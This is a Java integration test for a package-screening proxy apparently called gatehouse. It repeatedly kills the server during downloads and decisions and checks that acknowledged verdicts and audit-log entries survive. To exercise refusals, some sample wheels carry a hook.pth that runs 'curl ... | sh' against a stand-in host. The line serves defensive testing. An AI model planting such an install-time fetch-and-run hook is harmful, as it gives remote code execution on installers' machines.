package dev.gatehouse.cli.launcher;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.cli.docs.Checkout;
import dev.gatehouse.samples.FakeIndex;
import dev.gatehouse.samples.SampleArtifact;
import dev.gatehouse.samples.WheelBuilder;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The server is killed at random moments while clients download and people decide, and is started
 * again over the same data: what it acknowledged is there, and what it did not is whole or absent.
 *
 * <p>{@code tools/kill} does it a hundred times.
 */
@EnabledOnOs({OS.LINUX, OS.MAC})
class KilledIT {
  private static final Path HOME = Checkout.root().resolve("cli/target/gatehouse");
  private static final int KILLS = Integer.getInteger("gatehouse.kills", 10);
  private static final long SEED = Long.getLong("gatehouse.seed", 20_260_324L);
  private static final int CLIENTS = 4;
  private static final int LONGEST_LIFE_MILLIS = 6000;
  private static final long SECOND = 1_000_000_000L;
  private static final Pattern WHOLE =
      Pattern.compile("(\\d+) entr(?:y|ies), whole\\. Head: ([0-9a-f]{64})");
  private static final List<String> KINDS = List.of("approve", "refuse", "recall");
  private static final JsonMapper JSON = new JsonMapper();

  /** What one process acknowledged between its start and its end. */
  private record Life(List<Acknowledged> all, long killedAt) {}

  @TempDir Path folder;
  private final FakeIndex upstream = FakeIndex.start();
  private final HttpClient http = HttpClient.newHttpClient();
  private final AtomicInteger projects = new AtomicInteger();
  private @Nullable String head;

  @AfterEach
  void stop() {
    upstream.close();
    http.close();
  }

  @Test
  void losesNothingThatItAcknowledged() throws Exception {
    Random random = new Random(SEED);
    List<Life> lives = new ArrayList<>();
    while (lives.size() < KILLS) {
      try (RunningServer server = start()) {
        if (!lives.isEmpty()) {
          check(server, List.of(lives.getLast()));
        }
        // A recall writes what is queued of downloads; without one they are written by time alone.
        List<String> kinds = lives.size() % 2 == 0 ? List.of("approve", "refuse") : KINDS;
        lives.add(live(server, kinds, random.nextInt(LONGEST_LIFE_MILLIS)));
      }
    }
    try (RunningServer server = start()) {
      check(server, lives);
      note(server, lives);
    }
  }

  private RunningServer start() throws IOException {
    return RunningServer.start(
        HOME,
        folder,
        """
        [policy]
        minimum-age = "0d"

        [advisories]
        source = "none"
        """,
        "--upstream",
        upstream.uri().toString());
  }

  /** Downloads and decisions, until the server is killed in the middle of them. */
  private Life live(RunningServer server, List<String> kinds, int millis) throws Exception {
    List<Acknowledged> all = new ArrayList<>();
    String token = token();
    try (ExecutorService clients = Executors.newVirtualThreadPerTaskExecutor()) {
      List<Future<List<Acknowledged>>> working = new ArrayList<>();
      for (int i = 0; i < CLIENTS; i++) {
        working.add(clients.submit(() -> workUntilItIsGone(server.address(), token, kinds)));
      }
      assertThat(server.endsWithin(Duration.ofMillis(millis))).as("it ended by itself").isFalse();
      long killedAt = System.nanoTime();
      server.kill();
      for (Future<List<Acknowledged>> client : working) {
        all.addAll(client.get());
      }
      return new Life(all, killedAt);
    }
  }

  private List<Acknowledged> workUntilItIsGone(URI server, String token, List<String> kinds)
      throws InterruptedException {
    List<Acknowledged> all = new ArrayList<>();
    try {
      while (true) {
        Acknowledged next = new Acknowledged(projects.incrementAndGet());
        all.add(next);
        work(server, token, kinds, next);
      }
    } catch (IOException gone) {
      return all;
    }
  }

  /** One project's story. */
  private void work(URI server, String token, List<String> kinds, Acknowledged project)
      throws IOException, InterruptedException {
    int number = project.number();
    WheelBuilder builder = WheelBuilder.wheel(project.project(), "1.0");
    boolean attack = number % 4 == 0;
    if (attack) {
      builder.file("hook.pth", "import os; os.system('curl -s http://demo.invalid | sh')\n");
    }
    SampleArtifact wheel = builder.build();
    upstream.publish(wheel);
    URI file = server.resolve("files/" + project.project() + "/" + wheel.filename());
    HttpResponse<byte[]> answer =
        http.send(
            HttpRequest.newBuilder(file).header("User-Agent", project.agent()).build(),
            BodyHandlers.ofByteArray());
    long now = System.nanoTime();
    assertThat(answer.statusCode()).isEqualTo(attack ? 403 : 200);
    project.downloaded(attack ? "refuse" : "admit", now);
    String kind = kinds.get(number % kinds.size());
    decide(server, token, "decisions", kind, project);
    project.decided(kind);
    if (number % 5 == 0) {
      project.withdrawing();
      decide(server, token, "decisions/withdraw", kind, project);
      project.withdrawn(kind);
    }
  }

  private void decide(URI server, String token, String path, String kind, Acknowledged project)
      throws IOException, InterruptedException {
    String body =
        """
        {"kind": "%s", "project": "%s", "version": "1.0", "reason": "because of %d"}
        """
            .formatted(kind, project.project(), project.number());
    HttpResponse<String> answer =
        http.send(
            HttpRequest.newBuilder(server.resolve("api/" + path))
                .header("Authorization", "Bearer " + token)
                .POST(HttpRequest.BodyPublishers.ofString(body))
                .build(),
            BodyHandlers.ofString());
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
  }

  private String token() throws IOException {
    return Files.readString(folder.resolve("data/admin-token")).strip();
  }

  private void check(RunningServer server, List<Life> lives) throws Exception {
    Map<String, List<String>> log = provenLog(server);
    for (Life life : lives) {
      for (Acknowledged project : life.all()) {
        List<String> logged = log.getOrDefault(project.project() + "==1.0", List.of());
        List<String> acknowledged = project.logged();
        assertThat(logged.stream().limit(acknowledged.size()).toList())
            .as(project.project())
            .isEqualTo(acknowledged);
        checkVerdictAndDecisions(server, project, logged);
        checkDownload(server, project, life.killedAt());
      }
    }
  }

  private void checkVerdictAndDecisions(
      RunningServer server, Acknowledged project, List<String> logged) throws Exception {
    JsonNode why = ask(server, "why/" + project.project() + "/1.0");
    if (project.verdict() != null) {
      assertThat(texts(why.path("files").path(0).path("history"), "verdict"))
          .as(project.project())
          .containsExactly(project.verdict());
    }
    List<String> decisions = texts(why.path("decisions"), "kind");
    assertThat(decisions).as(project.project()).containsAll(project.standing());
    assertThat(decisions).as("what stands is what the log tells").isEqualTo(standingBy(logged));
  }

  private static List<String> standingBy(List<String> logged) {
    List<String> standing = new ArrayList<>();
    for (String action : logged) {
      if (action.startsWith("withdraw-")) {
        standing.remove(action.substring("withdraw-".length()));
      } else {
        standing.add(action);
      }
    }
    return standing;
  }

  /** What ended within the second before the kill may be lost; nothing is there twice. */
  private void checkDownload(RunningServer server, Acknowledged project, long killedAt)
      throws Exception {
    List<String> outcomes = downloads(server, project);
    String expected = "refuse".equals(project.verdict()) ? "refused 1" : "received 1";
    if (project.verdict() != null && killedAt - project.downloadedAt() > SECOND) {
      assertThat(outcomes).as(project.project()).containsExactly(expected);
    } else {
      assertThat(outcomes).as(project.project()).isSubsetOf("refused 1", "received 1", "partial 1");
    }
  }

  private List<String> downloads(RunningServer server, Acknowledged project) throws Exception {
    List<String> outcomes = new ArrayList<>();
    for (JsonNode receipt :
        ask(server, "exposure/" + project.project() + "/1.0").path("received")) {
      assertThat(receipt.path("agent").asString("")).isEqualTo(project.agent());
      outcomes.add(receipt.path("outcome").asString("") + " " + receipt.path("times").asInt(0));
    }
    return outcomes;
  }

  /** The actions of the log by what they were done to, after the program has proved it whole. */
  private Map<String, List<String>> provenLog(RunningServer server) throws Exception {
    List<String> command =
        new ArrayList<>(
            List.of(
                HOME.resolve("bin/gatehouse").toString(),
                "audit-log",
                "verify",
                "--data",
                folder.resolve("data").toString()));
    if (head != null) {
      command.addAll(List.of("--head", head));
    }
    Run verified = Run.of(folder, Map.of(), command.toArray(String[]::new));
    assertThat(verified.exitCode()).as(verified.err()).isZero();
    Matcher whole = WHOLE.matcher(verified.out());
    assertThat(whole.find()).as(verified.out()).isTrue();
    head = whole.group(2);

    Map<String, List<String>> actions = new HashMap<>();
    long after = 0;
    JsonNode entries = ask(server, "audit-log?after=0").path("entries");
    while (!entries.isEmpty()) {
      for (JsonNode entry : entries) {
        after = entry.path("number").asLong(0);
        actions
            .computeIfAbsent(entry.path("subject").asString(""), _ -> new ArrayList<>())
            .add(entry.path("action").asString(""));
      }
      entries = ask(server, "audit-log?after=" + after).path("entries");
    }
    assertThat(after).isEqualTo(Long.parseLong(whole.group(1)));
    return actions;
  }

  private JsonNode ask(RunningServer server, String path) throws Exception {
    HttpResponse<String> answer =
        http.send(
            HttpRequest.newBuilder(server.address().resolve("api/" + path))
                .header("Authorization", "Bearer " + token())
                .build(),
            BodyHandlers.ofString());
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
    return JSON.readTree(answer.body());
  }

  private static List<String> texts(JsonNode list, String member) {
    return list.valueStream().map(node -> node.path(member).asString("")).toList();
  }

  /** For {@code tools/kill}, which prints it. */
  private void note(RunningServer server, List<Life> lives) throws Exception {
    String file = System.getProperty("gatehouse.figures");
    if (file == null) {
      return;
    }
    int downloads = 0;
    int changes = 0;
    int lost = 0;
    long oldestLost = 0;
    for (Life life : lives) {
      for (Acknowledged project : life.all()) {
        changes += project.logged().size();
        if (project.verdict() != null) {
          downloads++;
          if (downloads(server, project).isEmpty()) {
            lost++;
            oldestLost = Math.max(oldestLost, life.killedAt() - project.downloadedAt());
          }
        }
      }
    }
    Files.writeString(
        Path.of(file),
        """
        | killed | %d times |
        | acknowledged verdicts, all there | %d |
        | acknowledged decisions and withdrawals, all there, with their entries in the audit log | %d |
        | downloads without a record, of as many as verdicts | %d |
        | the oldest of those ended before the kill | %d ms |
        """
            .formatted(lives.size(), downloads, changes, lost, oldestLost / 1_000_000));
  }
}
